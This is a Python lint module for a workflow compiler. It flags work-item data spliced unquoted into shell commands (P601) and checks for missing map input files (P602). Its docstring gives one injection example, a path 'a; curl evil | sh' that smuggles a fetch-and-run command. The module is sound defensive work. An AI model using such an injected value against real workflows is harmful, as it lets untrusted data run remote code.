"""Lint: legal workflows that are likely to hurt. Warnings, errors under `validate --strict`.

P601, work-item data spliced into a shell command outside quotes: a map item or foreach item
comes from data (a linter's report, a file list, an issue tracker), and `rm ${item.path}` lets a
path such as `a; curl evil | sh` run as a command. The safe form passes the item through the
environment, which the runtime sets for every item (`"$PRODIGY_ITEM"`), or at least quotes it.

P602, a map input that names a missing file (`lint_input.py`).
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from prodigy.compiler.commands.foreach import Foreach
from prodigy.compiler.commands.shell import Shell
from prodigy.compiler.lint_input import missing_input
from prodigy.compiler.model import Step, Text, substeps
from prodigy.compiler.model_workflow import Workflow, walk_steps
from prodigy.compiler.source import SourceMap
from prodigy.runtime.diagnostics import Diagnostic, Severity

_ITEM_REF = re.compile(r"\$\{(?:item|item_json)(?:[.\[][^}]*)?\}|\$item\b")


def lint(workflow: Workflow, source_map: SourceMap) -> list[Diagnostic]:
    found: list[Diagnostic] = []
    for step in _fed_by_data(workflow):
        if isinstance(step.command, Shell):
            found.extend(_unquoted_items(step.command.command, source_map))
    found.extend(missing_input(workflow, source_map))
    return found


def _fed_by_data(workflow: Workflow) -> Iterator[Step]:
    """Steps whose `${item}` comes from data: map agents and foreach over a command's output.

    A literal foreach list is written by the workflow's author, like the command itself.
    """
    roots: list[Step] = list(workflow.map.agent) if workflow.map is not None else []
    for step in walk_steps(workflow):
        command = step.command
        if isinstance(command, Foreach) and command.command is not None:
            roots.extend(command.body)
    stack = list(roots)
    while stack:
        step = stack.pop()
        yield step
        stack.extend(substeps(step))


def _unquoted_items(text: Text, source_map: SourceMap) -> Iterator[Diagnostic]:
    for start, end, ref in _outside_quotes(text.value):
        span = (source_map.char_span(text.path, text.value, start, end)
                if text.path is not None else text.span)
        yield Diagnostic(
            "P601", f"work-item data `{ref}` is spliced into a shell command unquoted", span,
            hint='pass it through the environment ("$PRODIGY_ITEM") or at least quote it',
            severity=Severity.WARNING)


def _outside_quotes(command: str) -> Iterator[tuple[int, int, str]]:
    """Item references that sit outside single and double quotes of the shell text."""
    quote: str | None = None
    index = 0
    while index < len(command):
        char = command[index]
        if quote is None and char in "'\"":
            quote = char
        elif quote is not None and char == quote:
            quote = None
        elif char == "\\" and quote != "'":
            index += 2
            continue
        elif char == "$" and quote is None:
            match = _ITEM_REF.match(command, index)
            if match:
                yield match.start(), match.end(), match.group(0)
                index = match.end()
                continue
        index += 1
